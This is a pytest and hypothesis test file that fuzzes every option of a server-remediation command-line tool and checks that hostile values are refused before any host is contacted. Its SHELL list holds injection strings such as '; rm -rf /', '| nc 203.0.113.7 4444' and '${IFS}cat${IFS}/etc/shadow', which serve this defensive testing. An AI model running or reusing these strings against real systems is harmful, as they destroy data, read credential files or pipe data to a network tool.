"""Hostile option values: refused with one line before any host is contacted or anything written.

For every task `make_task` built in `tasks.ns` (found by introspection, so a new task is
covered the day it is registered) and every option that takes a value, hypothesis runs the
task in-process with one hostile value and otherwise valid arguments (in check mode), against
an inventory whose hosts would each record a contact:

- `ssh1`: ssh to 127.0.0.1, at the port of a socket this test listens on;
- `dock1`: `ansible_connection: docker`, the engine ($DOCKER_HOST) a unix socket listened on here;
- `kube1`: `ansible_connection: kubernetes`, its kubeconfig's API server another listener here.

The hostile values: NaN, the infinities, numbers beyond the option's Range (huge ones too),
decimals for whole numbers, non-numbers; and strings with NUL, line breaks or other control
characters, non-UTF-8 bytes (lone surrogates, as Python decodes them from argv), over 4096
characters, a leading '-' (`-h`), shell metacharacters, '..' paths (naming nothing that
exists: an existing local file may be meant, `-i ../inv.yml`), the empty string.

Each run must exit 1 with exactly one line, `error: ...` on stderr (or one JSON `{"event":
"error"}` object on stdout with --json), no traceback, no connection accepted by any listener,
and neither the audit log nor the state directory created. Output goes to strict UTF-8
streams, so an error message that cannot be printed fails too.

Not hostile, so not drawn: a value equal to the option's default (`--inventory ''` means "not
given"), the documented values of MEANINGFUL, -h/--help for a positional argument (the task's
help), and a value that is one of the task's own flags
(`--service=--check`): Invoke's parser refuses that itself, before the task runs
(`test_a_flag_given_as_a_value_is_the_parsers_one_line`). Options whose every printable
one-line value may be meant (FREE: a message, a JSON value, a redis key, a host pattern, a
path here) get only the values no option takes: control characters, non-UTF-8, over-long,
and a leading '-' or a '..' component where their Text refuses those.
"""

from __future__ import annotations

import contextlib
import io
import json
import math
import os
import select
import socket
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from unittest import mock

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from invoke.collection import Collection
from invoke.program import Program

from remediations.cli.options import _COMMON_NAMES, _Task
from remediations.cli.values import MAX_TEXT, Range, Text
from tasks import ns

TASKS: dict[str, _Task] = {name: ns[name] for name in sorted(ns.task_names)
                           if isinstance(ns[name], _Task)}

# Arguments that make each task run (it reaches the runner), by option. A task not listed
# runs with none; `test_valid_arguments_reach_the_run` says when it needs some.
BASE: dict[str, dict[str, str]] = {
    "restart": {"service": "nginx"},
    "start": {"service": "nginx"},
    "reload": {"service": "nginx"},
    "stop": {"service": "nginx"},
    "block-ip": {"address": "203.0.113.7"},
    "unblock-ip": {"address": "203.0.113.7"},
    "runbook": {"name": "app-unresponsive"},
    "scale-workers": {"count": "2"},
    "forget-failed-jobs": {"ids": "5"},
    "delete-redis-keys": {"key": "k"},
    "truncate-log": {"path": "/var/log/app.log"},
    "remove-old-files": {"root": "/var/backups/app", "days": "7"},
    "compose-restart": {"service": "backend"},
    "compose-stop": {"services": "worker"},
    "compose-start": {"services": "worker"},
    "compose-tag": {"service": "backend", "tag": "v1.2.2"},
    "restart-if-memory": {"container": "backend", "max_mb": "512"},
    "container-stats": {"container": "backend"},
    "clear-container-logs": {"container": "backend"},
    "scale": {"replicas": "2"},
    "set-image": {"image": "registry.example/app:v1.2.3"},
    "rollback": {"release": "v1.2.2"},
    "unlock": {"run_id": "20261206T101500Z-3f9a1c"},
    "stop-long-queries": {"older_than": "300"},
    "migrate-rollback": {"steps": "1"},
    "clear-rate-limits": {"address": "203.0.113.7"},
    "compose-scale": {"service": "worker", "replicas": "2"},
    "env-set": {"name": "APP_DEBUG", "value": "true"},
}
# (task, fuzzed option): the BASE option left out, as it excludes the fuzzed one; and a valid
# value of the fuzzed option, that makes the task run without it.
EXCLUDES: dict[tuple[str, str], tuple[str, str]] = {
    ("delete-redis-keys", "pattern"): ("key", "laravel_cache:*"),
    ("restart-if-memory", "max_percent"): ("max_mb", "90"),
}
# Values that are not the option's default and still mean something documented.
MEANINGFUL: dict[tuple[str, str], tuple[str, ...]] = {
    ("start-workers", "group"): ("",),   # every program
    ("restart-queue", "group"): ("",),   # skip the re-spawn check
    ("runbook", "name"): ("--list",),    # lists the runbooks
}
# A positional argument given -h or --help shows the task's help (make_task: Invoke hands a
# missing positional the next word, `block-ip -h`).
HELP = ("-h", "--help")
# Options where any printable one-line value may be meant; why.
FREE: dict[str, str] = {
    "limit": "a host pattern: *, !, &, :, ~regex; one matching nothing is refused",
    "audit_log": "any plain path here ('..' is refused by its Text)",
    "preserve-evidence:fetch_to": "any plain path here ('..' is refused by its Text)",
    "health:value": "any JSON value, compared as text",
    "maintenance-on:message": "any one-line message: it reaches the host in an environment variable",
    "delete-redis-keys:key": "any printable redis key: one argument after the command word",
    "delete-redis-keys:pattern": "any printable redis glob: one argument after the command word",
    "remove-old-files:pattern": "any `find -name` glob without '/': one argument",
    "env-set:value": "any one-line value: the host's helper writes it quoted into .env, no shell",
}

# -- the hosts that would record a contact --------------------------------------------------


class Listener:
    """A socket that counts the connections made to it (each closed at once: fail fast)."""

    def __init__(self, family: int, address: Any) -> None:
        self.sock = socket.socket(family, socket.SOCK_STREAM)
        self.sock.bind(address)
        self.sock.listen(64)
        self.address = self.sock.getsockname()
        self.accepted = 0
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.accepted += 1
            conn.close()

    def contacts(self) -> int:
        """Connections accepted, or still waiting in the backlog."""
        waiting, _, _ = select.select([self.sock], [], [], 0)
        return self.accepted + len(waiting)

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.shutdown(socket.SHUT_RDWR)
        self.sock.close()


class Sandbox:
    """The inventory, its listeners, and where the audit log and run records would go."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.ssh = Listener(socket.AF_INET, ("127.0.0.1", 0))
        self.api = Listener(socket.AF_INET, ("127.0.0.1", 0))
        self.engine = Listener(socket.AF_UNIX, str(root / "docker.sock"))
        (root / "kubeconfig.yml").write_text(
            "apiVersion: v1\nkind: Config\ncurrent-context: here\n"
            f"clusters: [{{name: here, cluster: {{server: 'https://127.0.0.1:{self.api.address[1]}', "
            "insecure-skip-tls-verify: true}}]\n"
            "users: [{name: here, user: {token: not-a-token}}]\n"
            "contexts: [{name: here, context: {cluster: here, user: here, namespace: shop}}]\n")
        self.inventory = root / "inventory.yml"
        self.inventory.write_text(
            "all:\n  vars: {ansible_user: root, ansible_host_key_checking: false}\n"
            "  children:\n"
            "    web:\n      hosts:\n"
            f"        ssh1: {{ansible_host: 127.0.0.1, ansible_port: {self.ssh.address[1]}}}\n"
            "        dock1: {ansible_connection: docker, ansible_docker_host: rem-none}\n"
            "    kube:\n      hosts:\n"
            "        kube1: {ansible_connection: kubernetes, kubeconfig: kubeconfig.yml, "
            "deployment: web, namespace: shop}\n")
        self.runs = 0
        self.env = {"DOCKER_HOST": f"unix://{root / 'docker.sock'}",
                    "KUBECONFIG": str(root / "kubeconfig.yml")}

    def next_run(self) -> dict[str, str]:
        """The environment of the next run: its own audit log and state directory, not made."""
        self.runs += 1
        self.audit_log = self.root / f"audit-{self.runs}" / "audit.jsonl"
        self.state = self.root / f"state-{self.runs}"
        return {**self.env, "REMEDIATIONS_AUDIT_LOG": str(self.audit_log),
                "REMEDIATIONS_STATE_DIR": str(self.state)}

    def contacts(self) -> dict[str, int]:
        return {"ssh": self.ssh.contacts(), "docker": self.engine.contacts(),
                "kubernetes": self.api.contacts()}

    def written(self) -> list[str]:
        return [str(p) for p in (self.audit_log.parent, self.state) if p.exists()]

    def close(self) -> None:
        for listener in (self.ssh, self.api, self.engine):
            listener.close()


@pytest.fixture(scope="module")
def sandbox(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Sandbox]:
    box = Sandbox(tmp_path_factory.mktemp("hostile"))  # short: a unix socket path is <108 bytes
    yield box
    box.close()


@dataclass(frozen=True)
class Ran:
    code: int
    out: str
    err: str


def _strict() -> io.TextIOWrapper:
    """A stream as a UTF-8 terminal's: a lone surrogate written to it raises."""
    return io.TextIOWrapper(io.BytesIO(), encoding="utf-8", errors="strict", write_through=True)


def run_task(box: Sandbox, task: str, argv: list[str]) -> Ran:
    """`invoke TASK ARGV` in-process (the task of `tasks.ns`, alone in its collection)."""
    out, err = _strict(), _strict()
    code = 0
    env = {k: v for k, v in os.environ.items()
           if k not in ("REMEDIATIONS_INVENTORY", "REMEDIATIONS_DEBUG")}
    with mock.patch.dict(os.environ, {**env, **box.next_run()}, clear=True), \
            contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        try:
            Program(namespace=Collection(TASKS[task]), binary="invoke").run(["invoke", task, *argv])
        except SystemExit as exc:
            code = exc.code if isinstance(exc.code, int) else 1
    return Ran(code, out.buffer.getvalue().decode(), err.buffer.getvalue().decode())  # type: ignore[attr-defined]


# -- the options ------------------------------------------------------------------------------

def options(task: _Task) -> dict[str, dict[str, Any]]:
    """The options of `task` that take a value, by name, as `Argument` keywords."""
    return {o.get("attr_name", o["names"][0]): o for o in task.option_specs
            if o.get("kind") is not bool}


def flags(task: _Task) -> set[str]:
    """Every flag of `task`, `--no-x` included: as a value, Invoke's parser takes it as the flag."""
    found = set()
    for o in task.option_specs:
        for n in o["names"]:
            found.add(f"--{n}" if len(n) > 1 else f"-{n}")
        if o.get("kind") is bool:
            found.add(f"--no-{o['names'][0]}")
    return found


def argv_for(box: Sandbox, task: str, option: str | None = None, value: str = "",
             json_output: bool = False) -> list[str]:
    """Valid arguments for `task`, `--OPTION=VALUE` in place of the option's own."""
    left_out = EXCLUDES.get((task, option or ""), ("", ""))[0]
    given = {k: v for k, v in BASE.get(task, {}).items() if k != left_out}
    given = {"inventory": str(box.inventory), "timeout": "10", **given}
    if option is not None:
        given.pop(option, None)
    argv = [f"--{k.replace('_', '-')}={v}" for k, v in given.items()]
    if option is not None:
        argv.append(f"--{option.replace('_', '-')}={value}")
    return [*argv, "--check", *(["--json"] if json_output else [])]


PAIRS = [(t, o) for t, task in TASKS.items() for o in options(task)]
# Examples per (task, option): 8 in CI (fixed, about 30 s in all); HOSTILE_EXAMPLES=200 for a
# deeper, random search.
EXAMPLES = int(os.environ.get("HOSTILE_EXAMPLES", "8"))
DERANDOMIZE = "HOSTILE_EXAMPLES" not in os.environ


# -- hostile values -------------------------------------------------------------------------

POISON = ["\x00", "\n", "\r", "\r\n", "\t", "\x1b[31m", "\x7f", "\x85", "\u2028", "\udcff",
          "\udc80\udc81"]  # the last two: the bytes 0xff, 0x80 0x81 of a non-UTF-8 argument
SHELL = ["$(id)", "`id`", "; rm -rf /", "| nc 203.0.113.7 4444", "&& reboot", "a b", "*", "'",
         '"', "\\", "${IFS}cat${IFS}/etc/shadow", ">/etc/passwd", "nginx;reboot", "%s%n", "~root",
         "{a,b}", "(", "#", "!", "?"]
OPTION_LIKE = ["-h", "--help", "-x", "-rf", "--force", "-", "--", "-1", "--version", "-v"]
# Existing nowhere, even once normalised: a local path that exists (`-i ../inv.yml`) may be
# meant; a path on the hosts with '..' is refused whatever it names.
DOTDOT = st.builds(lambda ups, name, tail: "../" * ups + f"no-such-{name}" + tail,
                   st.integers(1, 12), st.text("abcdef0123456789", min_size=4, max_size=8),
                   st.sampled_from(["", "/x", "/../no-such-y", "/a/../../no-such-z"])) | \
    st.sampled_from(["/no-such-dir/../../no-such/shadow", "/var/log/../no-such/../no-such-x",
                     "no-such/../../../no-such-x", "a/../../no-such"])
# The shared options that are numbers written as text.
NUMBERS_AS_TEXT = {
    "serial": ["0", "0%", "101%", "nan%", "inf", "-1", "1.5", "1e400", str(10**30), "1,0",
               "50%%", "1,,-2", "\uff15"],
    "max_fail_percentage": ["nan", "inf", "-inf%", "101", "100.5%", "-1", "1e400", "50%%",
                            str(10**30), "\uff15"],
}
PLAIN = st.text(st.characters(codec="utf-8", exclude_categories=["Cs", "Cc"]), max_size=12)


@st.composite
def poisoned(draw: st.DrawFn) -> str:
    """Any text with a control character or a non-UTF-8 byte in it, or over MAX_TEXT long."""
    base = draw(st.sampled_from(SHELL + OPTION_LIKE + ["nginx", "v1.2.2", "/var/log/app.log"])
                | PLAIN | DOTDOT)
    if draw(st.integers(0, 5)) == 0:
        return base + "a" * draw(st.integers(MAX_TEXT + 1 - len(base), 3 * MAX_TEXT))
    at = draw(st.integers(0, len(base)))
    return base[:at] + draw(st.sampled_from(POISON)) + base[at:]


def strings(task: str, option: str, accepts: Text) -> st.SearchStrategy[str]:
    free = option in FREE or f"{task}:{option}" in FREE
    found: list[st.SearchStrategy[str]] = [poisoned()]
    if not accepts.dash:
        found.append(st.sampled_from(OPTION_LIKE) | PLAIN.map(lambda s: "-" + s))
    if accepts.path:
        found.append(st.sampled_from(["..", "../", "a/..", "../x", "./../x"]) | DOTDOT)
    if not free:
        found += [st.sampled_from([*SHELL, ""]), DOTDOT]
    if option in NUMBERS_AS_TEXT:
        found.append(st.sampled_from(NUMBERS_AS_TEXT[option]))
    return st.one_of(found)


def numbers(accepts: Range | None, whole: bool) -> st.SearchStrategy[str]:
    found: list[st.SearchStrategy[str]] = [
        st.sampled_from(["nan", "NaN", "-nan", "inf", "-inf", "Infinity", "1e309", "-1e400",
                         "", " 5", "5 ", "5\n", "1_000", "\uff15", "\u0665", "0x10", "1,5",
                         "five", *SHELL, *OPTION_LIKE[:2]]),
        poisoned(),
    ]
    if accepts is not None:
        low, high = accepts.low, accepts.high
        above = st.integers(math.floor(high) + 1, 10**400)
        below = st.integers(-10**400, math.ceil(low) - (0 if accepts.low_open else 1))
        found.append((above | below).map(str))
        if not whole:
            found.append(st.floats(min_value=high, exclude_min=True, allow_infinity=False)
                         .map(repr))
            found.append(st.floats(max_value=low, allow_infinity=False)
                         .filter(lambda x: x < low or (accepts.low_open and x == low)).map(repr))
    if whole:
        found.append(st.sampled_from(["1.5", "2.0", "1e3", "-0.5"]))
    return st.one_of(found)


def parsed(value: str, kind: type) -> float | None:
    """The number `value` is as an option of `kind` (options.py's rule), or None."""
    if not value.isascii() or "_" in value or value != value.strip():
        return None
    try:
        return kind(value)  # type: ignore[no-any-return]
    except ValueError:
        return None


def hostile(task: str, option: str) -> st.SearchStrategy[str]:
    spec = options(TASKS[task])[option]
    accepts = TASKS[task].accepts.get(option)
    kind = spec.get("kind")
    if kind in (int, float):
        return numbers(accepts if isinstance(accepts, Range) else None, whole=kind is int)
    return strings(task, option, accepts if isinstance(accepts, Text) else Text())


def not_given(task: str, option: str, value: str) -> bool:
    """`value` means the option's default, or something documented (MEANINGFUL)."""
    spec = options(TASKS[task])[option]
    default, kind = spec.get("default"), spec.get("kind")
    if value in MEANINGFUL.get((task, option), ()):
        return True
    if option in TASKS[task].positional and value in HELP:
        return True
    if kind in (int, float):
        number = parsed(value, kind)
        accepts = TASKS[task].accepts.get(option)
        unset = accepts.unset if isinstance(accepts, Range) else None
        return number is not None and number in (default, unset)
    return value == (default if default is not None else "")


# -- the checks ------------------------------------------------------------------------------

def assert_refused(box: Sandbox, ran: Ran, json_output: bool, before: dict[str, int]) -> None:
    shown = f"exit {ran.code}\nstdout: {ran.out!r}\nstderr: {ran.err!r}"
    assert "Traceback" not in ran.out + ran.err, shown
    assert ran.code == 1, shown
    if json_output:
        assert ran.err == "", shown
        (line,) = ran.out.splitlines()
        obj = json.loads(line)
        assert obj["event"] == "error" and "internal error" not in obj["message"], shown
    else:
        assert ran.out == "", shown
        (line,) = ran.err.splitlines()
        assert line.startswith("error: ") and "internal error" not in line, shown
    assert box.contacts() == before, f"a host was contacted\n{shown}"
    assert box.written() == [], f"written: {box.written()}\n{shown}"


def test_every_numeric_option_of_every_task_declares_a_range() -> None:
    missing = [f"{t} --{o.replace('_', '-')}" for t, task in TASKS.items()
               for o, spec in options(task).items()
               if spec.get("kind") in (int, float) and not isinstance(task.accepts.get(o), Range)]
    assert not missing, f"numeric options without a Range (a 4th element of the Param): {missing}"


def test_the_tasks_are_found() -> None:
    assert {"restart", "scale", "compose-restart", "rollback", "smoke", "runbook"} <= set(TASKS)
    assert not any(t.startswith(("lab.", "stack.", "bench.")) or t == "demo" for t in TASKS)
    assert all(o in options(TASKS["restart"]) for o in _COMMON_NAMES
               if o not in ("check", "diff", "json"))


@pytest.fixture
def reached(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The run entry points the tasks call, recording instead of running."""
    from remediations.release import rollback
    from remediations.run import runner
    from remediations.run.report import Report
    from remediations.smoke import session

    seen: list[str] = []

    def run(remediation: Any, hosts: Any, *, run: Any, name: str, **_: Any) -> Report:
        seen.append(name)
        return Report(run.run_id, name, run.started_at, (), run.check)

    def stop(what: str) -> Callable[..., Any]:
        def record(*_: Any, **__: Any) -> Any:
            seen.append(what)
            raise SystemExit(0)
        return record

    monkeypatch.setattr(runner, "run", run)
    monkeypatch.setattr(rollback, "rollback_hosts", stop("rollback_hosts"))
    monkeypatch.setattr(session, "run_smoke_tests", stop("run_smoke_tests"))
    return seen


@pytest.mark.parametrize("task", sorted(TASKS))
def test_valid_arguments_reach_the_run(sandbox: Sandbox, reached: list[str], task: str) -> None:
    """The fuzz's arguments are valid: without the hostile value the task would run."""
    ran = run_task(sandbox, task, argv_for(sandbox, task))
    assert reached, (f"{task} {argv_for(sandbox, task)} did not reach the run: add its required "
                     f"arguments to BASE\n{ran.err}{ran.out}")
    for (name, option), (_, valid) in EXCLUDES.items():
        if name == task:
            reached.clear()
            argv = argv_for(sandbox, task, option, valid)
            ran = run_task(sandbox, task, argv)
            assert reached, f"{task} {argv} did not reach the run\n{ran.err}{ran.out}"


def test_a_contact_is_recorded(sandbox: Sandbox) -> None:
    """The harness sees a contact: a valid run reaches every kind of host."""
    # Imported here first: two host threads importing `requests` at once can see it half-made.
    import docker  # noqa: F401
    import kubernetes  # noqa: F401

    before = sandbox.contacts()
    ran = run_task(sandbox, "restart", argv_for(sandbox, "restart", "timeout", "5"))
    assert ran.code in (2, 4), ran.err + ran.out
    after = sandbox.contacts()
    assert all(after[k] > before[k] for k in before), (before, after, ran.err, ran.out)


@pytest.mark.parametrize(("task", "option"), PAIRS, ids=[f"{t}--{o}" for t, o in PAIRS])
@settings(max_examples=EXAMPLES, deadline=None, derandomize=DERANDOMIZE, database=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(data=st.data())
def test_a_hostile_value_is_refused_before_anything(sandbox: Sandbox, task: str, option: str,
                                                    data: st.DataObject) -> None:
    value = data.draw(hostile(task, option), label="value")
    assume(not not_given(task, option, value) and value not in flags(TASKS[task]))
    json_output = data.draw(st.booleans(), label="json")
    before = sandbox.contacts()
    ran = run_task(sandbox, task, argv_for(sandbox, task, option, value, json_output))
    assert_refused(sandbox, ran, json_output, before)


# -- the cases, and the parser's own refusal -----------------------------------------

@pytest.mark.parametrize("extra", [["--timeout", "nan"], ["--timeout", "inf"],
                                   ["--timeout", "inf", "--check"], ["--timeout", "-5"],
                                   ["--timeout", "1e999", "--json"], ["--forks", "1e400"],
                                   ["--forks", str(10**30)], ["--serial", "nan%"],
                                   ["--max-fail-percentage", "nan"]])
def test_restart_with_a_bad_number_contacts_nobody(sandbox: Sandbox, extra: list[str]) -> None:
    before = sandbox.contacts()
    ran = run_task(sandbox, "restart", ["--service", "nginx", "-l", "web", "-i",
                                        str(sandbox.inventory), *extra])
    assert_refused(sandbox, ran, "--json" in extra, before)
    if extra[:2] == ["--timeout", "nan"]:
        assert ran.err == "error: --timeout must be a finite number more than 0 and at most " \
                          "86400, got nan\n"


def test_a_flag_given_as_a_value_is_the_parsers_one_line(sandbox: Sandbox) -> None:
    before = sandbox.contacts()
    ran = run_task(sandbox, "restart", ["--service=--check", "-i", str(sandbox.inventory)])
    assert ran.code == 1 and ran.out == "" and "Traceback" not in ran.err
    (line,) = ran.err.splitlines()
    assert "needed value" in line
    assert sandbox.contacts() == before and sandbox.written() == []
